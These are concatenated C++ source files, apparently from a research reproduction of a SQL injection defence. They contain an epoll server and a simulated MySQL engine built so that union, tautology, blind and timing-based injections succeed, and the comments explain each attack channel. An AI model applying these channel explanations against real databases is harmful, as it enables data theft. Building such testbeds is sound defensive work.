  while (!conns_.empty()) CloseConn(conns_.begin()->first);
}

StatusOr<int> EpollServer::Start() {
  if (running_.load()) return Status::InvalidArgument("already running");
  const std::size_t shard_count = shared_.config.event_shards > 0
                                      ? shared_.config.event_shards
                                      : shared_.config.workers;
  int port = shared_.config.port;
  shards_.clear();
  for (std::size_t i = 0; i < shard_count; ++i) {
    auto shard = std::make_unique<Shard>(shared_);
    int bound = 0;
    // Shard 0 resolves port 0 to a concrete port; the rest must share it.
    if (Status st = shard->Open(port, &bound); !st.ok()) {
      shards_.clear();
      return st;
    }
    port = bound;
    shards_.push_back(std::move(shard));
  }
  running_.store(true);
  for (auto& shard : shards_) shard->Spawn();
  return port;
}

void EpollServer::Stop() {
  if (!running_.exchange(false)) return;
  shared_.stopping.store(true);
  for (auto& shard : shards_) shard->Wake();
  for (auto& shard : shards_) shard->Join();
}

}  // namespace

std::unique_ptr<ServerImpl> MakeEpollServer(GatewayShared& shared) {
  return std::make_unique<EpollServer>(shared);
}

}  // namespace joza::gateway::internal
