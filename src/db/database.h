// In-memory SQL database engine.
//
// This is the MySQL stand-in behind the protected application. It executes
// the AST from sqlparse/ with enough fidelity that the paper's four attack
// classes work end-to-end: union-based exploits really exfiltrate rows,
// tautologies really bypass WHERE clauses, blind attacks really observe
// error/row-count channels, and double-blind attacks really observe timing
// (SLEEP/BENCHMARK accumulate virtual time on the result).
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <unordered_map>
#include <utility>
#include <vector>

#include "db/table.h"
#include "sqlparse/ast.h"
#include "util/rng.h"
#include "util/status.h"

namespace joza::db {

class Evaluator;

struct ExecResult {
  std::vector<std::string> columns;  // empty for non-SELECT
  std::vector<Row> rows;
  std::size_t affected = 0;          // INSERT/UPDATE/DELETE row count
  // Virtual time consumed by SLEEP()/BENCHMARK(), in milliseconds. The
  // webapp layer adds this to the response time, giving double-blind
  // attacks their timing side channel without real sleeping.
  double virtual_time_ms = 0.0;
};

class Database {
 public:
  Database() : rng_(0xdb) {}

  // Parses and executes one statement.
  StatusOr<ExecResult> Execute(std::string_view sql);

  // Executes an already-parsed statement.
  StatusOr<ExecResult> Execute(const sql::Statement& stmt);

  // Prepared-statement execution: parses `sql`, binds `params` to its
  // placeholders ('?' and ':name', in query byte order), executes. Bound
  // values are pure data — they never re-enter SQL parsing, which is
  // exactly why prepared statements resist injection (and why the Drupal
  // CVE, which let user input shape the *placeholder names*, still lost).
  StatusOr<ExecResult> ExecutePrepared(std::string_view sql,
                                       const std::vector<Value>& params);

  bool HasTable(std::string_view name) const;
  // Resolves user tables and the read-only virtual tables
  // "information_schema.tables" (table_name, table_rows) and
  // "information_schema.columns" (table_name, column_name, data_type),
  // which are what union-based schema enumeration targets.
  const Table* FindTable(std::string_view name) const;
  std::size_t table_count() const { return tables_.size(); }

  // Direct table creation/population helpers for fixtures.
  Table& CreateTable(std::string name, std::vector<Column> columns);
  Status InsertRow(std::string_view table, Row row);

 private:
  StatusOr<ExecResult> ExecSelect(const sql::SelectStmt& stmt);
  // Runs a nested SELECT for the expression evaluator, folding its virtual
  // time into the outer query's accumulator.
  StatusOr<ExecResult> ExecSelectForEval(const sql::SelectStmt& stmt,
                                         double* vtime);
  // Executes one SELECT core. For every expression in `order_exprs` a
  // hidden sort-key column is appended to each row (so ORDER BY can
  // reference source columns that are not projected); the caller sorts by
  // and then strips these.
  StatusOr<std::pair<std::vector<std::string>, std::vector<Row>>> ExecCore(
      const sql::SelectCore& core, Evaluator& eval,
      const std::vector<const sql::Expr*>& order_exprs);
  StatusOr<ExecResult> ExecInsert(const sql::InsertStmt& stmt);
  StatusOr<ExecResult> ExecUpdate(const sql::UpdateStmt& stmt);
  StatusOr<ExecResult> ExecDelete(const sql::DeleteStmt& stmt);
  StatusOr<ExecResult> ExecCreate(const sql::CreateTableStmt& stmt);
  StatusOr<ExecResult> ExecDrop(const sql::DropTableStmt& stmt);
  StatusOr<ExecResult> ExecShowTables() const;

  Table* FindTableMutable(std::string_view name);
  // Rebuilds the virtual information_schema tables from current state.
  void RefreshInfoSchema() const;

  std::unordered_map<std::string, Table> tables_;  // key: lowercase name
  // Lazily rebuilt virtual tables; mutable because FindTable is const.
  mutable Table info_tables_;
  mutable Table info_columns_;
  Rng rng_;
  // Set only for the duration of ExecutePrepared; read by the evaluator
  // when it reaches a placeholder expression.
  const std::vector<Value>* bound_params_ = nullptr;

  friend class Evaluator;
};

}  // namespace joza::db
