// In-memory table storage.
#pragma once

#include <string>
#include <vector>

#include "db/value.h"
#include "sqlparse/ast.h"

namespace joza::db {

using Row = std::vector<Value>;

struct Column {
  std::string name;
  sql::ColumnDef::Type type = sql::ColumnDef::Type::kText;
};

struct Table {
  std::string name;
  std::vector<Column> columns;
  std::vector<Row> rows;

  // Index of a column by (case-insensitive) name, or -1.
  int ColumnIndex(std::string_view col) const;
};

}  // namespace joza::db
