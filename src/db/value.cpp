#include "db/value.h"

#include <cmath>
#include <cstdio>
#include <cstdlib>

#include "util/strings.h"

namespace joza::db {

double MysqlNumericPrefix(std::string_view s) {
  std::string_view t = Trim(s);
  std::string buf(t);
  const char* start = buf.c_str();
  char* end = nullptr;
  double v = std::strtod(start, &end);
  if (end == start) return 0.0;
  return v;
}

std::int64_t Value::as_int() const {
  if (is_int()) return std::get<std::int64_t>(data_);
  if (is_double()) return static_cast<std::int64_t>(std::llround(std::get<double>(data_)));
  if (is_string()) {
    return static_cast<std::int64_t>(
        std::llround(MysqlNumericPrefix(std::get<std::string>(data_))));
  }
  return 0;  // NULL
}

double Value::as_double() const {
  if (is_int()) return static_cast<double>(std::get<std::int64_t>(data_));
  if (is_double()) return std::get<double>(data_);
  if (is_string()) return MysqlNumericPrefix(std::get<std::string>(data_));
  return 0.0;
}

std::string Value::as_string() const {
  if (is_null()) return "NULL";
  if (is_int()) return std::to_string(std::get<std::int64_t>(data_));
  if (is_double()) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%g", std::get<double>(data_));
    return buf;
  }
  return std::get<std::string>(data_);
}

bool Value::truthy() const {
  if (is_null()) return false;
  if (is_int()) return std::get<std::int64_t>(data_) != 0;
  if (is_double()) return std::get<double>(data_) != 0.0;
  // MySQL: a string is truthy iff its numeric prefix is non-zero.
  return MysqlNumericPrefix(std::get<std::string>(data_)) != 0.0;
}

namespace {

// Compares with MySQL coercion rules; requires both non-null.
// Returns -1/0/+1.
int CoercedCompare(const Value& a, const Value& b) {
  if (a.is_string() && b.is_string()) {
    const std::string& x = a.raw_string();
    const std::string& y = b.raw_string();
    // MySQL default collations are case-insensitive.
    std::string lx = ToLower(x), ly = ToLower(y);
    if (lx < ly) return -1;
    if (lx > ly) return 1;
    return 0;
  }
  double x = a.as_double();
  double y = b.as_double();
  if (x < y) return -1;
  if (x > y) return 1;
  return 0;
}

}  // namespace

Value Value::CompareEq(const Value& a, const Value& b) {
  if (a.is_null() || b.is_null()) return Value::Null();
  return Value::Bool(CoercedCompare(a, b) == 0);
}

Value Value::CompareLt(const Value& a, const Value& b) {
  if (a.is_null() || b.is_null()) return Value::Null();
  return Value::Bool(CoercedCompare(a, b) < 0);
}

Value Value::CompareLe(const Value& a, const Value& b) {
  if (a.is_null() || b.is_null()) return Value::Null();
  return Value::Bool(CoercedCompare(a, b) <= 0);
}

int Value::OrderCompare(const Value& a, const Value& b) {
  const int ra = a.is_null() ? 0 : (a.is_string() ? 2 : 1);
  const int rb = b.is_null() ? 0 : (b.is_string() ? 2 : 1);
  if (ra != rb) {
    // Numeric-vs-string still compares by coerced value (MySQL semantics),
    // NULL always sorts first.
    if (ra == 0 || rb == 0) return ra < rb ? -1 : 1;
    return CoercedCompare(a, b) != 0 ? CoercedCompare(a, b) : (ra < rb ? -1 : 1);
  }
  if (ra == 0) return 0;  // both NULL
  return CoercedCompare(a, b);
}

}  // namespace joza::db
