#include "db/database.h"

#include <algorithm>
#include <cmath>
#include <functional>
#include <map>
#include <regex>

#include "sqlparse/parser.h"
#include "util/hash.h"
#include "util/strings.h"

namespace joza::db {

namespace {

// SQL LIKE pattern match: '%' any run, '_' one char; case-insensitive
// (MySQL's default collation). Iterative two-pointer with backtracking.
bool LikeMatch(std::string_view text, std::string_view pattern) {
  std::size_t t = 0, p = 0;
  std::size_t star_p = std::string_view::npos, star_t = 0;
  while (t < text.size()) {
    if (p < pattern.size() &&
        (pattern[p] == '_' ||
         AsciiToLower(pattern[p]) == AsciiToLower(text[t]))) {
      ++t;
      ++p;
    } else if (p < pattern.size() && pattern[p] == '%') {
      star_p = p++;
      star_t = t;
    } else if (star_p != std::string_view::npos) {
      p = star_p + 1;
      t = ++star_t;
    } else {
      return false;
    }
  }
  while (p < pattern.size() && pattern[p] == '%') ++p;
  return p == pattern.size();
}

bool IsAggregateName(std::string_view fn) {
  return fn == "COUNT" || fn == "SUM" || fn == "MIN" || fn == "MAX" ||
         fn == "AVG" || fn == "GROUP_CONCAT";
}

bool ContainsAggregate(const sql::Expr* e) {
  if (e == nullptr) return false;
  if (e->kind == sql::ExprKind::kFunctionCall &&
      IsAggregateName(e->function_name)) {
    return true;
  }
  if (ContainsAggregate(e->lhs.get()) || ContainsAggregate(e->rhs.get()) ||
      ContainsAggregate(e->extra.get())) {
    return true;
  }
  for (const auto& a : e->args) {
    if (ContainsAggregate(a.get())) return true;
  }
  for (const auto& a : e->in_list) {
    if (ContainsAggregate(a.get())) return true;
  }
  return false;
}

// One logical row: parallel vectors of (qualifier, column) names and values.
struct Scope {
  std::vector<std::pair<std::string, std::string>> names;  // lowercased
  Row values;

  void Append(std::string_view qualifier, const Table& table,
              const Row* row) {
    std::string q = ToLower(qualifier);
    for (std::size_t i = 0; i < table.columns.size(); ++i) {
      names.emplace_back(q, ToLower(table.columns[i].name));
      values.push_back(row != nullptr ? (*row)[i] : Value::Null());
    }
  }
};

// A "group" for aggregate evaluation: indexes into the scope vector.
struct Group {
  std::vector<std::size_t> member_indexes;
};

constexpr std::string_view kServerVersion = "5.6.26-joza-sim";
constexpr std::string_view kCurrentUser = "wp_user@localhost";
constexpr std::string_view kDatabaseName = "wordpress";
constexpr std::string_view kNowTimestamp = "2015-06-22 10:00:00";
constexpr std::string_view kToday = "2015-06-22";

}  // namespace

// ---------------------------------------------------------------------------
// Evaluator
// ---------------------------------------------------------------------------

class Evaluator {
 public:
  Evaluator(Database* db, double* vtime, Rng* rng)
      : db_(db), vtime_(vtime), rng_(rng) {}

  StatusOr<Value> Eval(const sql::Expr& e, const Scope& scope) {
    return EvalImpl(e, scope, nullptr, nullptr);
  }

  // Evaluates with aggregate support over `group` (indices into `all`).
  StatusOr<Value> EvalGrouped(const sql::Expr& e,
                              const std::vector<Scope>& all,
                              const Group& group) {
    static const Scope kEmpty;
    const Scope& rep = group.member_indexes.empty()
                           ? kEmpty
                           : all[group.member_indexes.front()];
    return EvalImpl(e, rep, &all, &group);
  }

 private:
  StatusOr<Value> EvalImpl(const sql::Expr& e, const Scope& scope,
                           const std::vector<Scope>* all,
                           const Group* group) {
    using sql::ExprKind;
    switch (e.kind) {
      case ExprKind::kNullLiteral: return Value::Null();
      case ExprKind::kIntLiteral: return Value(e.int_value);
      case ExprKind::kDoubleLiteral: return Value(e.double_value);
      case ExprKind::kStringLiteral: return Value(e.string_value);
      case ExprKind::kBoolLiteral: return Value::Bool(e.bool_value);
      case ExprKind::kPlaceholder:
        if (db_->bound_params_ != nullptr && e.placeholder_ordinal >= 0 &&
            static_cast<std::size_t>(e.placeholder_ordinal) <
                db_->bound_params_->size()) {
          return (*db_->bound_params_)[
              static_cast<std::size_t>(e.placeholder_ordinal)];
        }
        return Status::InvalidArgument(
            "unbound placeholder " + e.placeholder_name);
      case ExprKind::kColumnRef: return EvalColumn(e, scope);
      case ExprKind::kBinary: return EvalBinary(e, scope, all, group);
      case ExprKind::kUnary: return EvalUnary(e, scope, all, group);
      case ExprKind::kFunctionCall:
        return EvalFunction(e, scope, all, group);
      case ExprKind::kInList: return EvalInList(e, scope, all, group);
      case ExprKind::kBetween: return EvalBetween(e, scope, all, group);
      case ExprKind::kSubquery: return EvalScalarSubquery(e);
    }
    return Status::Internal("unhandled expression kind");
  }

  StatusOr<Value> EvalColumn(const sql::Expr& e, const Scope& scope) {
    const std::string q = ToLower(e.qualifier);
    const std::string c = ToLower(e.column);
    if (c == "*") {
      return Status::InvalidArgument("bare * outside select list");
    }
    for (std::size_t i = 0; i < scope.names.size(); ++i) {
      if (scope.names[i].second != c) continue;
      if (!q.empty() && scope.names[i].first != q) continue;
      return scope.values[i];
    }
    return Status::InvalidArgument("unknown column '" + e.qualifier +
                                   (e.qualifier.empty() ? "" : ".") +
                                   e.column + "'");
  }

  StatusOr<Value> EvalBinary(const sql::Expr& e, const Scope& scope,
                             const std::vector<Scope>* all,
                             const Group* group) {
    using sql::BinaryOp;
    // Short-circuit logical operators (with SQL three-valued logic
    // approximated as truthy/not-truthy, which suffices for this engine).
    if (e.binary_op == BinaryOp::kOr || e.binary_op == BinaryOp::kConcatPipes) {
      auto l = EvalImpl(*e.lhs, scope, all, group);
      if (!l.ok()) return l;
      if (l.value().truthy()) return Value::Bool(true);
      auto r = EvalImpl(*e.rhs, scope, all, group);
      if (!r.ok()) return r;
      return Value::Bool(r.value().truthy());
    }
    if (e.binary_op == BinaryOp::kAnd) {
      auto l = EvalImpl(*e.lhs, scope, all, group);
      if (!l.ok()) return l;
      if (!l.value().truthy()) return Value::Bool(false);
      auto r = EvalImpl(*e.rhs, scope, all, group);
      if (!r.ok()) return r;
      return Value::Bool(r.value().truthy());
    }

    auto l = EvalImpl(*e.lhs, scope, all, group);
    if (!l.ok()) return l;
    auto r = EvalImpl(*e.rhs, scope, all, group);
    if (!r.ok()) return r;
    const Value& a = l.value();
    const Value& b = r.value();

    switch (e.binary_op) {
      case BinaryOp::kXor:
        if (a.is_null() || b.is_null()) return Value::Null();
        return Value::Bool(a.truthy() != b.truthy());
      case BinaryOp::kEq: return Value::CompareEq(a, b);
      case BinaryOp::kNe: {
        Value eq = Value::CompareEq(a, b);
        return eq.is_null() ? eq : Value::Bool(!eq.truthy());
      }
      case BinaryOp::kLt: return Value::CompareLt(a, b);
      case BinaryOp::kLe: return Value::CompareLe(a, b);
      case BinaryOp::kGt: return Value::CompareLt(b, a);
      case BinaryOp::kGe: return Value::CompareLe(b, a);
      case BinaryOp::kLike:
      case BinaryOp::kNotLike: {
        if (a.is_null() || b.is_null()) return Value::Null();
        bool m = LikeMatch(a.as_string(), b.as_string());
        return Value::Bool(e.binary_op == BinaryOp::kLike ? m : !m);
      }
      case BinaryOp::kRegexp: {
        if (a.is_null() || b.is_null()) return Value::Null();
        try {
          std::regex re(b.as_string(), std::regex::icase);
          return Value::Bool(std::regex_search(a.as_string(), re));
        } catch (const std::regex_error&) {
          return Status::InvalidArgument("invalid REGEXP pattern");
        }
      }
      case BinaryOp::kAdd:
      case BinaryOp::kSub:
      case BinaryOp::kMul:
      case BinaryOp::kDiv:
      case BinaryOp::kMod: {
        if (a.is_null() || b.is_null()) return Value::Null();
        const double x = a.as_double();
        const double y = b.as_double();
        const bool ints = a.is_int() && b.is_int();
        switch (e.binary_op) {
          case BinaryOp::kAdd:
            return ints ? Value(a.as_int() + b.as_int()) : Value(x + y);
          case BinaryOp::kSub:
            return ints ? Value(a.as_int() - b.as_int()) : Value(x - y);
          case BinaryOp::kMul:
            return ints ? Value(a.as_int() * b.as_int()) : Value(x * y);
          case BinaryOp::kDiv:
            if (y == 0.0) return Value::Null();  // MySQL: division by zero
            return Value(x / y);
          case BinaryOp::kMod:
            if (b.as_int() == 0) return Value::Null();
            return Value(a.as_int() % b.as_int());
          default: break;
        }
        return Status::Internal("unreachable arithmetic");
      }
      default:
        return Status::Internal("unhandled binary operator");
    }
  }

  StatusOr<Value> EvalUnary(const sql::Expr& e, const Scope& scope,
                            const std::vector<Scope>* all,
                            const Group* group) {
    auto v = EvalImpl(*e.lhs, scope, all, group);
    if (!v.ok()) return v;
    switch (e.unary_op) {
      case sql::UnaryOp::kNot:
        if (v.value().is_null()) return Value::Null();
        return Value::Bool(!v.value().truthy());
      case sql::UnaryOp::kNeg:
        if (v.value().is_null()) return Value::Null();
        if (v.value().is_int()) return Value(-v.value().as_int());
        return Value(-v.value().as_double());
      case sql::UnaryOp::kIsNull: return Value::Bool(v.value().is_null());
      case sql::UnaryOp::kIsNotNull:
        return Value::Bool(!v.value().is_null());
    }
    return Status::Internal("unhandled unary operator");
  }

  StatusOr<Value> EvalInList(const sql::Expr& e, const Scope& scope,
                             const std::vector<Scope>* all,
                             const Group* group) {
    auto needle = EvalImpl(*e.lhs, scope, all, group);
    if (!needle.ok()) return needle;
    if (needle.value().is_null()) return Value::Null();

    std::vector<Value> haystack;
    if (e.in_list.size() == 1 &&
        e.in_list[0]->kind == sql::ExprKind::kSubquery) {
      auto sub = db_->ExecSelectForEval(*e.in_list[0]->subquery, vtime_);
      if (!sub.ok()) return sub.status();
      for (const Row& row : sub.value().rows) {
        if (!row.empty()) haystack.push_back(row[0]);
      }
    } else {
      for (const auto& item : e.in_list) {
        auto v = EvalImpl(*item, scope, all, group);
        if (!v.ok()) return v;
        haystack.push_back(std::move(v.value()));
      }
    }
    for (const Value& v : haystack) {
      Value eq = Value::CompareEq(needle.value(), v);
      if (!eq.is_null() && eq.truthy()) {
        return Value::Bool(!e.negated);
      }
    }
    return Value::Bool(e.negated);
  }

  StatusOr<Value> EvalBetween(const sql::Expr& e, const Scope& scope,
                              const std::vector<Scope>* all,
                              const Group* group) {
    auto v = EvalImpl(*e.lhs, scope, all, group);
    if (!v.ok()) return v;
    auto lo = EvalImpl(*e.rhs, scope, all, group);
    if (!lo.ok()) return lo;
    auto hi = EvalImpl(*e.extra, scope, all, group);
    if (!hi.ok()) return hi;
    Value ge = Value::CompareLe(lo.value(), v.value());
    Value le = Value::CompareLe(v.value(), hi.value());
    if (ge.is_null() || le.is_null()) return Value::Null();
    bool in = ge.truthy() && le.truthy();
    return Value::Bool(e.negated ? !in : in);
  }

  StatusOr<Value> EvalScalarSubquery(const sql::Expr& e) {
    auto sub = db_->ExecSelectForEval(*e.subquery, vtime_);
    if (!sub.ok()) return sub.status();
    if (sub.value().rows.empty()) return Value::Null();
    if (sub.value().rows[0].empty()) return Value::Null();
    return sub.value().rows[0][0];
  }

  StatusOr<Value> EvalAggregateCall(const sql::Expr& e,
                                    const std::vector<Scope>& all,
                                    const Group& group) {
    const std::string& fn = e.function_name;
    // COUNT(*)
    if (fn == "COUNT" && !e.args.empty() &&
        e.args[0]->kind == sql::ExprKind::kColumnRef &&
        e.args[0]->column == "*") {
      return Value(static_cast<std::int64_t>(group.member_indexes.size()));
    }
    if (e.args.empty()) {
      return Status::InvalidArgument(fn + " requires an argument");
    }
    std::vector<Value> vals;
    for (std::size_t idx : group.member_indexes) {
      auto v = EvalImpl(*e.args[0], all[idx], nullptr, nullptr);
      if (!v.ok()) return v;
      if (!v.value().is_null()) vals.push_back(std::move(v.value()));
    }
    if (fn == "COUNT") return Value(static_cast<std::int64_t>(vals.size()));
    if (vals.empty()) return Value::Null();
    if (fn == "SUM" || fn == "AVG") {
      double sum = 0;
      bool all_int = true;
      for (const Value& v : vals) {
        sum += v.as_double();
        all_int = all_int && v.is_int();
      }
      if (fn == "AVG") return Value(sum / static_cast<double>(vals.size()));
      return all_int ? Value(static_cast<std::int64_t>(sum)) : Value(sum);
    }
    if (fn == "MIN" || fn == "MAX") {
      const Value* best = &vals[0];
      for (const Value& v : vals) {
        int cmp = Value::OrderCompare(v, *best);
        if ((fn == "MIN" && cmp < 0) || (fn == "MAX" && cmp > 0)) best = &v;
      }
      return *best;
    }
    if (fn == "GROUP_CONCAT") {
      std::string out;
      for (std::size_t i = 0; i < vals.size(); ++i) {
        if (i > 0) out += ",";
        out += vals[i].as_string();
      }
      return Value(std::move(out));
    }
    return Status::Internal("unhandled aggregate " + fn);
  }

  StatusOr<Value> EvalFunction(const sql::Expr& e, const Scope& scope,
                               const std::vector<Scope>* all,
                               const Group* group) {
    const std::string& fn = e.function_name;

    if (IsAggregateName(fn)) {
      if (all == nullptr || group == nullptr) {
        return Status::InvalidArgument("aggregate " + fn +
                                       " outside grouped context");
      }
      return EvalAggregateCall(e, *all, *group);
    }

    // Lazily-evaluated functions first.
    if (fn == "IF") {
      if (e.args.size() != 3) {
        return Status::InvalidArgument("IF requires 3 arguments");
      }
      auto c = EvalImpl(*e.args[0], scope, all, group);
      if (!c.ok()) return c;
      return EvalImpl(*e.args[c.value().truthy() ? 1 : 2], scope, all, group);
    }
    if (fn == "COALESCE" || fn == "IFNULL") {
      for (const auto& a : e.args) {
        auto v = EvalImpl(*a, scope, all, group);
        if (!v.ok()) return v;
        if (!v.value().is_null()) return v;
      }
      return Value::Null();
    }
    if (fn == "BENCHMARK") {
      if (e.args.size() != 2) {
        return Status::InvalidArgument("BENCHMARK requires 2 arguments");
      }
      auto n = EvalImpl(*e.args[0], scope, all, group);
      if (!n.ok()) return n;
      auto v = EvalImpl(*e.args[1], scope, all, group);  // evaluate once
      if (!v.ok()) return v;
      // Model: each iteration costs 0.1 microseconds of virtual time.
      *vtime_ += static_cast<double>(n.value().as_int()) * 1e-4;
      return Value(std::int64_t{0});
    }

    // Eager evaluation for the rest.
    std::vector<Value> args;
    args.reserve(e.args.size());
    for (const auto& a : e.args) {
      auto v = EvalImpl(*a, scope, all, group);
      if (!v.ok()) return v;
      args.push_back(std::move(v.value()));
    }
    return CallScalar(fn, args);
  }

  StatusOr<Value> CallScalar(const std::string& fn,
                             const std::vector<Value>& args) {
    auto need = [&](std::size_t n) -> Status {
      if (args.size() != n) {
        return Status::InvalidArgument(fn + " requires " + std::to_string(n) +
                                       " argument(s)");
      }
      return Status::Ok();
    };
    auto need_between = [&](std::size_t lo, std::size_t hi) -> Status {
      if (args.size() < lo || args.size() > hi) {
        return Status::InvalidArgument(fn + ": wrong argument count");
      }
      return Status::Ok();
    };

    if (fn == "VERSION") return Value(std::string(kServerVersion));
    if (fn == "DATABASE") return Value(std::string(kDatabaseName));
    if (fn == "USER" || fn == "CURRENT_USER" || fn == "USERNAME" ||
        fn == "SYSTEM_USER" || fn == "SESSION_USER") {
      return Value(std::string(kCurrentUser));
    }
    if (fn == "NOW") return Value(std::string(kNowTimestamp));
    if (fn == "CURDATE") return Value(std::string(kToday));
    if (fn == "SLEEP") {
      if (auto st = need(1); !st.ok()) return st;
      double sec = args[0].as_double();
      if (sec < 0 || sec > 3600) {
        return Status::InvalidArgument("SLEEP duration out of range");
      }
      *vtime_ += sec * 1000.0;
      return Value(std::int64_t{0});
    }
    if (fn == "RAND") return Value(rng_->NextDouble());
    if (fn == "CHAR") {
      std::string out;
      for (const Value& v : args) {
        if (v.is_null()) continue;
        out.push_back(static_cast<char>(v.as_int() & 0xff));
      }
      return Value(std::move(out));
    }
    if (fn == "CONCAT") {
      std::string out;
      for (const Value& v : args) {
        if (v.is_null()) return Value::Null();
        out += v.as_string();
      }
      return Value(std::move(out));
    }
    if (fn == "CONCAT_WS") {
      if (args.empty()) return Value::Null();
      std::string out;
      bool first = true;
      for (std::size_t i = 1; i < args.size(); ++i) {
        if (args[i].is_null()) continue;
        if (!first) out += args[0].as_string();
        out += args[i].as_string();
        first = false;
      }
      return Value(std::move(out));
    }
    if (fn == "LENGTH" || fn == "CHAR_LENGTH") {
      if (auto st = need(1); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      return Value(static_cast<std::int64_t>(args[0].as_string().size()));
    }
    if (fn == "UPPER") {
      if (auto st = need(1); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      return Value(ToUpper(args[0].as_string()));
    }
    if (fn == "LOWER") {
      if (auto st = need(1); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      return Value(ToLower(args[0].as_string()));
    }
    if (fn == "TRIM" || fn == "LTRIM" || fn == "RTRIM") {
      if (auto st = need(1); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      std::string s = args[0].as_string();
      if (fn == "TRIM") return Value(std::string(Trim(s)));
      if (fn == "LTRIM") return Value(std::string(TrimLeft(s)));
      return Value(std::string(TrimRight(s)));
    }
    if (fn == "SUBSTRING" || fn == "SUBSTR" || fn == "MID") {
      if (auto st = need_between(2, 3); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      std::string s = args[0].as_string();
      std::int64_t pos = args[1].as_int();  // 1-based; negative from end
      std::int64_t len = args.size() == 3
                             ? args[2].as_int()
                             : static_cast<std::int64_t>(s.size());
      if (pos == 0 || len <= 0) return Value(std::string());
      std::size_t start;
      if (pos > 0) {
        if (static_cast<std::size_t>(pos) > s.size()) {
          return Value(std::string());
        }
        start = static_cast<std::size_t>(pos - 1);
      } else {
        if (static_cast<std::size_t>(-pos) > s.size()) {
          return Value(std::string());
        }
        start = s.size() - static_cast<std::size_t>(-pos);
      }
      return Value(s.substr(start, static_cast<std::size_t>(len)));
    }
    if (fn == "INSTR") {
      if (auto st = need(2); !st.ok()) return st;
      if (args[0].is_null() || args[1].is_null()) return Value::Null();
      std::size_t pos =
          FindIgnoreCase(args[0].as_string(), args[1].as_string());
      return Value(static_cast<std::int64_t>(
          pos == std::string_view::npos ? 0 : pos + 1));
    }
    if (fn == "ASCII") {
      if (auto st = need(1); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      std::string s = args[0].as_string();
      return Value(static_cast<std::int64_t>(
          s.empty() ? 0 : static_cast<unsigned char>(s[0])));
    }
    if (fn == "HEX") {
      if (auto st = need(1); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      static constexpr char kHexDigits[] = "0123456789ABCDEF";
      std::string out;
      for (unsigned char c : args[0].as_string()) {
        out.push_back(kHexDigits[c >> 4]);
        out.push_back(kHexDigits[c & 0xf]);
      }
      return Value(std::move(out));
    }
    if (fn == "UNHEX") {
      if (auto st = need(1); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      std::string s = args[0].as_string();
      if (s.size() % 2 != 0) return Value::Null();
      auto hexv = [](char c) -> int {
        if (c >= '0' && c <= '9') return c - '0';
        if (c >= 'a' && c <= 'f') return c - 'a' + 10;
        if (c >= 'A' && c <= 'F') return c - 'A' + 10;
        return -1;
      };
      std::string out;
      for (std::size_t i = 0; i < s.size(); i += 2) {
        int hi = hexv(s[i]), lo = hexv(s[i + 1]);
        if (hi < 0 || lo < 0) return Value::Null();
        out.push_back(static_cast<char>((hi << 4) | lo));
      }
      return Value(std::move(out));
    }
    if (fn == "MD5") {
      // Simulated digest: a keyed 128-bit FNV rendered as 32 hex chars.
      // Collision-resistance is irrelevant here; determinism is what the
      // attack corpus needs. Documented in DESIGN.md.
      if (auto st = need(1); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      std::string s = args[0].as_string();
      std::uint64_t h1 = Fnv1a64(s);
      std::uint64_t h2 = Fnv1a64(s, h1 ^ kFnvPrime);
      char buf[33];
      std::snprintf(buf, sizeof buf, "%016llx%016llx",
                    static_cast<unsigned long long>(h1),
                    static_cast<unsigned long long>(h2));
      return Value(std::string(buf));
    }
    if (fn == "ABS") {
      if (auto st = need(1); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      if (args[0].is_int()) return Value(std::abs(args[0].as_int()));
      return Value(std::fabs(args[0].as_double()));
    }
    if (fn == "CEIL") {
      if (auto st = need(1); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      return Value(static_cast<std::int64_t>(std::ceil(args[0].as_double())));
    }
    if (fn == "FLOOR") {
      if (auto st = need(1); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      return Value(static_cast<std::int64_t>(std::floor(args[0].as_double())));
    }
    if (fn == "ROUND") {
      if (auto st = need_between(1, 2); !st.ok()) return st;
      if (args[0].is_null()) return Value::Null();
      double scale = args.size() == 2 ? std::pow(10, args[1].as_double()) : 1;
      return Value(std::round(args[0].as_double() * scale) / scale);
    }
    if (fn == "CAST" || fn == "CONVERT") {
      if (auto st = need(2); !st.ok()) return st;
      std::string type = ToUpper(args[1].as_string());
      if (args[0].is_null()) return Value::Null();
      if (type.find("INT") != std::string::npos ||
          type.find("SIGNED") != std::string::npos) {
        return Value(args[0].as_int());
      }
      if (type.find("DOUBLE") != std::string::npos ||
          type.find("DECIMAL") != std::string::npos ||
          type.find("FLOAT") != std::string::npos) {
        return Value(args[0].as_double());
      }
      return Value(args[0].as_string());
    }
    if (fn == "EXTRACTVALUE" || fn == "UPDATEXML") {
      // MySQL raises an XPATH syntax error showing its argument — the error
      // channel error-based injections use. Faithfully reproduce that.
      std::string probe = args.size() > 1 ? args[1].as_string() : "";
      return Status::InvalidArgument("XPATH syntax error: '" + probe + "'");
    }
    return Status::InvalidArgument("unknown function " + fn + "()");
  }

  Database* db_;
  double* vtime_;
  Rng* rng_;
};

// ---------------------------------------------------------------------------
// Database
// ---------------------------------------------------------------------------

int Table::ColumnIndex(std::string_view col) const {
  for (std::size_t i = 0; i < columns.size(); ++i) {
    if (EqualsIgnoreCase(columns[i].name, col)) return static_cast<int>(i);
  }
  return -1;
}

StatusOr<ExecResult> Database::Execute(std::string_view sql_text) {
  auto stmt = sql::Parse(sql_text);
  if (!stmt.ok()) return stmt.status();
  return Execute(stmt.value());
}

StatusOr<ExecResult> Database::ExecutePrepared(
    std::string_view sql_text, const std::vector<Value>& params) {
  auto stmt = sql::Parse(sql_text);
  if (!stmt.ok()) return stmt.status();
  const int count = sql::BindPlaceholderOrdinals(stmt.value());
  if (static_cast<std::size_t>(count) != params.size()) {
    return Status::InvalidArgument(
        "parameter count mismatch: statement has " + std::to_string(count) +
        ", got " + std::to_string(params.size()));
  }
  bound_params_ = &params;
